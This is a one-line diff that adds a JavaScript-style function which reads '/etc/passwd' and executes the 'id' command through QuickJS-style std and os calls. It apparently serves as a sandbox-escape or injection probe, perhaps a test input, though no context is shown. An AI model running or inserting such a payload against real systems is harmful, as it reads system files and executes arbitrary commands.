@@ -1,0 +1,1 @@
+() => std.loadFile("/etc/passwd") + os.exec(["id"])
